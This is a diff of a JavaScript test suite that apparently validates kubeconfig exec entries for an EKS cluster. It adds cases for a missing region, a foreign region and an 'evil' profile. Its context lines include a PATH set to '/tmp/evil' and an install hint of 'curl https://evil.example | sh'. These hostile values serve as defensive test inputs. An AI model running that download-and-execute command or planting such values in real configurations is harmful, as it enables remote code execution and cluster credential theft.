@@ -26,6 +26,10 @@ describe("KUBECONFIG", () => {
   it.each([
     ["EKS's own", kubeconfigOf()],
     [
+      "one without the region",
+      kubeconfigOf(exec({ args: ["eks", "get-token", "--cluster-name", "sparki-prod", "--output", "json"] })),
+    ],
+    [
       "one with the protocol's variable",
       kubeconfigOf(
         exec({
@@ -56,6 +60,14 @@ describe("KUBECONFIG", () => {
     [
       "a foreign role",
       kubeconfigOf(exec({ args: ["eks", "get-token", "--cluster-name", "sparki-prod", "--role-arn", "arn"] })),
+    ],
+    [
+      "another region's cluster",
+      kubeconfigOf(exec({ args: ["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "sparki-prod"] })),
+    ],
+    [
+      "a file of settings",
+      kubeconfigOf(exec({ args: ["--profile", "evil", "eks", "get-token", "--cluster-name", "sparki-prod"] })),
     ],
     ["a variable of the command", kubeconfigOf(exec({ env: [{ name: "PATH", value: "/tmp/evil" }] }))],
     ["a hint that people run", kubeconfigOf(exec({ installHint: "curl https://evil.example | sh" }))],
